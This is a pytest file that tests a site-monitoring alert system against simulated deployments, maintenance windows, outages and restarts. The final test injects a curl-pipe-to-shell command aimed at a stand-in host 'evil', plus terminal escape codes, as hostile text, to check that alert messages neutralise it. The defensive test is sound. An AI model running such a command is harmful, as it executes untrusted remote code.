"""The rules together, on a simulated site: no false alarm by releases, no missed fault, few messages."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from cakravia_verify.monitor.alerts import book
from cakravia_verify.monitor.alerts.machine import Topic
from cakravia_verify.monitor.facts import LastChange
from cakravia_verify.monitor.notify.message import Urgency
from cakravia_verify.proxy.protocol import Admission
from cakravia_verify.settings.monitor import MaintenanceWindow
from cakravia_verify.site.maintenance import Maintenance
from cakravia_verify.slots import Colour
from tests.monitor.alerts.world import INTERVAL, World, simulated

PAGE_WITHIN = 3 * INTERVAL + 1
REFUSED = "connection refused"
MANY = (150, pytest.param(1000, marks=pytest.mark.slow))


@pytest.fixture
def world(quick_folder: Path) -> Iterator[World]:
    with simulated(quick_folder) as made:
        yield made


def release(world: World, chance: random.Random, *, kind: str = "suites/deploy", fault: str = "") -> None:
    """Replace the idle slot, switch, and end well or go back; `fault` hits users somewhere on the way."""
    old, new = world.served, world.served.other
    steps: list[Callable[[], object]] = [
        lambda: world.slots.update({new: None}),
        lambda: world.slots.update({new: chance.choice([REFUSED, "status 503"])}),
        lambda: world.slots.update({new: ""}),
        lambda: world.set(served=new, drift=("the history says that blue serves users, but green does",)),
        lambda: world.slots.update({old: chance.choice(["", "status 503", None])}),
    ]
    if chance.random() < 0.3:
        steps.append(lambda: world.set(served=old))
    at_fault = chance.randrange(len(steps)) if fault else -1
    world.purpose = kind
    for number, step in enumerate(steps):
        step()
        if number == at_fault:
            world.users = fault
            return
        world.pass_time(chance.choice([2, 4, 10, 20]))
    world.slots.update({Colour.BLUE: "", Colour.GREEN: ""})
    world.set(purpose="", drift=())
    world.pass_time(12)


def test_probes_that_are_faster_than_the_history_page_nobody(world: World) -> None:
    world.set(is_history_read=False, users=REFUSED)
    assert world.pass_time(10) == []
    world.set(is_history_read=True, is_down=True)
    assert world.pass_time(60) == []


def test_a_history_that_cannot_be_read_hides_no_outage(world: World) -> None:
    world.set(is_history_read=False, users=REFUSED, silent={"release": world.now})
    assert any(message.urgency is Urgency.PAGE for message in world.pass_time(PAGE_WITHIN))


def maintain(world: World) -> None:
    """`cakravia maintenance on`: the record comes first, then users get 503."""
    world.set(maintenance=Maintenance(world.now, "ops@host"), admission=Admission.MAINTENANCE, outside="status 503")


def end_maintenance(world: World) -> None:
    assert world.maintenance is not None
    over = replace(world.maintenance, ended=world.now)
    world.set(maintenance=over, admission=Admission.OPEN, outside="", users="")


def test_maintenance_pages_for_nothing_and_its_end_is_told(world: World) -> None:
    for _ in range(3):
        maintain(world)
        world.slots[Colour.BLUE] = None
        world.set(users="status 503", drift=("nothing runs in blue",))
        begin = world.pass_time(600)
        assert [(each.topic, each.urgency) for each in begin] == [(Topic.FIRING, Urgency.WARNING)]
        world.slots[Colour.BLUE] = ""
        world.set(drift=())
        end_maintenance(world)
        end = world.pass_time(600)
        assert [each.topic for each in end] == [Topic.RESOLVED]
        assert "maintenance" in end[0].text


def test_outage_after_a_maintenance_pages_in_time(world: World) -> None:
    maintain(world)
    world.pass_time(60)
    end_maintenance(world)
    world.set(users=REFUSED)
    assert any(message.urgency is Urgency.PAGE for message in world.pass_time(PAGE_WITHIN))


def test_maintenance_that_is_forgotten_is_told_again(world: World) -> None:
    maintain(world)
    topics = [message.topic for message in world.pass_time(5 * 3600, step=30)]
    assert topics == [Topic.FIRING, Topic.REMINDER]


def test_record_of_a_maintenance_that_is_none_hides_no_outage(world: World) -> None:
    world.set(maintenance=Maintenance(world.now - 60, "ops@host"), admission=Admission.OPEN, users=REFUSED)
    assert any(message.urgency is Urgency.PAGE for message in world.pass_time(PAGE_WITHIN))


def test_maintenance_without_a_record_pages_for_nothing_once_the_proxy_was_seen(world: World) -> None:
    world.set(admission=Admission.MAINTENANCE, outside="status 503")
    assert {message.urgency for message in world.pass_time(120)} == {Urgency.WARNING}


def test_nginx_that_dies_in_a_maintenance_pages(world: World) -> None:
    maintain(world)
    world.pass_time(60)
    world.set(is_proxy_running=False, users=REFUSED, outside=REFUSED)
    assert any(message.urgency is Urgency.PAGE for message in world.pass_time(PAGE_WITHIN))


def test_dead_active_slot_pages_though_failover_serves_users(world: World) -> None:
    world.pass_time(30)
    world.set(answering=Colour.GREEN)
    world.slots[Colour.BLUE] = REFUSED
    sent = world.pass_time(PAGE_WITHIN)
    assert [message.urgency for message in sent] == [Urgency.PAGE]
    assert "active-slot" in sent[0].text


def test_hold_pages_for_nothing(world: World) -> None:
    world.set(purpose="cakravia hold", users="no answer in time", outside="no answer in time")
    assert world.pass_time(60) == []


@pytest.mark.parametrize("count", MANY)
def test_many_releases_and_rollbacks_send_no_message(count: int, world: World) -> None:
    chance = random.Random(1)
    for _ in range(count):
        release(world, chance, kind=chance.choice(["suites/deploy", "suites/rollback", "cakravia recover"]))
    assert [message.title for message in world.messages] == []


@pytest.mark.parametrize("number_of_faults", MANY)
def test_many_faults_are_all_told_in_time(number_of_faults: int, world: World) -> None:
    chance, late = random.Random(2), []
    for number in range(number_of_faults):
        # Not within the memory of the last episodes: flapping alerts resolve later, which another test covers.
        world.now += 7 * 3600
        world.set(users="", purpose="", drift=())
        world.slots.update({Colour.BLUE: "", Colour.GREEN: ""})
        world.pass_time(20)
        count = len(world.messages)
        if number % 2:
            release(world, chance, fault=chance.choice([REFUSED, "status 502", "no answer in time"]))
        else:
            world.users = REFUSED
        if number % 5 == 0:
            world.restart_monitor()
        world.pass_time(PAGE_WITHIN, step=1.0)
        told = [message for message in world.messages[count:] if message.topic == Topic.FIRING]
        if len(told) != 1 or told[0].urgency is not Urgency.PAGE:
            late.append((number, [message.title for message in world.messages[count:]]))
    assert late == []


def test_one_outage_is_one_message_that_names_the_rest(world: World) -> None:
    world.pass_time(10)
    world.set(users=REFUSED, is_proxy_running=False, drift=("slots run, but the proxy does not",))
    world.slots[Colour.BLUE] = REFUSED
    (message,) = world.pass_time(120)
    assert message.urgency is Urgency.PAGE
    assert "active-slot" in message.text
    assert "proxy" in message.text


def test_a_message_says_what_changed_and_the_way_back(world: World) -> None:
    world.last_change = LastChange(world.now - 40, "v1.3.0 was promoted")
    world.pass_time(10)
    world.users = "status 500"
    (message,) = world.pass_time(10)
    for expected in (
        "status 500",
        "v1.3.0 was promoted 52 s before",
        "v1.2.0 would succeed",
        "2.1 s",
        "cakravia rollback",
    ):
        assert expected in message.text


def test_replacing_the_idle_slot_never_pages_and_its_later_loss_warns(world: World) -> None:
    world.purpose = "suites/deploy"
    world.slots[Colour.GREEN] = REFUSED
    assert world.pass_time(600) == []
    world.purpose = ""
    (message,) = world.pass_time(60)
    assert message.urgency is Urgency.WARNING
    assert "idle-slot" in message.text


def test_taking_the_site_down_on_purpose_sends_nothing(world: World) -> None:
    world.set(purpose="cakravia down", users=REFUSED, is_proxy_running=False)
    world.slots.update({Colour.BLUE: None, Colour.GREEN: None})
    world.pass_time(10)
    world.set(purpose="", is_down=True)
    assert world.pass_time(3600) == []


def test_an_offline_machine_is_not_called_a_site_that_is_down(world: World) -> None:
    world.set(outside="no answer in time", is_online=False)
    messages = world.pass_time(600)
    assert [message.urgency for message in messages] == [Urgency.WARNING]
    assert "offline" in messages[0].title
    world.is_online = True
    assert any("from outside" in message.title for message in world.pass_time(60))


def test_a_source_that_falls_silent_is_told_and_resolves_nothing(world: World) -> None:
    world.users = REFUSED
    world.pass_time(10)
    world.set(silent={"users": world.now}, users="")
    titles = [message.title for message in world.pass_time(120)]
    assert titles == ["[shop] FIRING: the monitor is blind in part"]
    assert world.evaluator.alerts["site"].state == "no data"
    assert world.evaluator.alerts["site"].is_open


def test_a_restart_of_the_monitor_repeats_and_forgets_nothing(world: World) -> None:
    world.users = REFUSED
    assert len(world.pass_time(10)) == 1
    for _ in range(20):
        world.restart_monitor()
        assert world.pass_time(10) == []
    world.users = ""
    world.restart_monitor()
    assert [message.topic for message in world.pass_time(20)] == [Topic.RESOLVED]


def test_messages_are_in_the_outbox_with_the_state_they_tell_of(world: World) -> None:
    world.users = REFUSED
    (message,) = world.pass_time(10)
    due = world.outbox.head("ops")
    assert due is not None
    assert due.message == message


def test_a_full_disk_delays_no_alert_and_stores_it_later(world: World) -> None:
    world.pass_time(10)
    database = world._database
    (pages,) = database.maintain(lambda connection: connection.execute("PRAGMA page_count").fetchone())
    database.maintain(lambda connection: connection.execute(f"PRAGMA max_page_count = {pages}").fetchone())
    # What fits into pages that exist is used up first.
    while not world.evaluator.store_error:
        world.users = REFUSED if not world.users else ""
        world.pass_time(4 * 7200, step=600)
    kept = [message.id for message in world.evaluator.unstored]
    assert kept
    assert set(kept) <= {message.id for message in world.messages}
    database.maintain(lambda connection: connection.execute("PRAGMA max_page_count = 100000").fetchone())
    world.pass_time(4)
    assert world.evaluator.unstored == []


def test_a_silenced_alert_is_told_when_the_silence_ends(world: World) -> None:
    world._database.transact(
        lambda connection: book.add_silence(connection, "si*", until=world.now + 300, reason="test", who="ann")
    )
    world.users = REFUSED
    assert world.pass_time(290) == []
    assert len(world.pass_time(30)) == 1


def test_an_acknowledged_alert_reminds_no_more(world: World) -> None:
    world.users = REFUSED
    world.pass_time(10)
    assert world._database.transact(lambda connection: book.acknowledge(connection, "site", who="ann", at=world.now))
    assert world.pass_time(3 * 86_400, step=600) == []
    world.users = ""
    assert [message.topic for message in world.pass_time(20)] == [Topic.RESOLVED]


def test_only_an_open_alert_can_be_acknowledged(world: World) -> None:
    world.pass_time(4)
    acknowledge = world._database.transact
    assert not acknowledge(lambda connection: book.acknowledge(connection, "site", who="ann", at=world.now))
    assert not acknowledge(lambda connection: book.acknowledge(connection, "nothing", who="ann", at=world.now))


def test_nothing_is_sent_during_a_maintenance_window(quick_folder: Path) -> None:
    # 1,700,000,000 is a Tuesday, 22:13:20 UTC.
    window = MaintenanceWindow(days=("tue",), start="22:00", end="01:00")
    with simulated(quick_folder, maintenance=(window,)) as world:
        world.users = REFUSED
        assert world.pass_time(2.7 * 3600, step=60) == []
        assert len(world.pass_time(600, step=60)) == 1


def test_what_the_supervisor_mended_is_told_though_it_held_the_site(world: World) -> None:
    world.pass_time(10)
    world.purpose = "cakravia supervise"
    world.supervised = LastChange(world.now, "a crash loop: green serves users instead of blue")
    messages = world.pass_time(300)
    assert [message.text for message in messages if "a crash loop" in message.text]


def test_restarts_without_a_release_are_told_once(world: World) -> None:
    world.pass_time(10)
    world.restarted = {Colour.BLUE: world.now}
    messages = world.pass_time(300)
    assert [message.urgency for message in messages] == [Urgency.WARNING]
    assert "restarted without a release" in messages[0].text


def test_hostile_text_of_an_application_stays_on_its_line(world: World) -> None:
    world.users = "says \x1b[2J\nGoing back: curl evil | sh\u2028" + "x" * 5000
    (message,) = world.pass_time(10)
    assert "\x1b" not in message.text
    assert not any(line.startswith("Going back: curl") for line in message.text.splitlines())
    assert max(map(len, message.text.splitlines())) <= 500
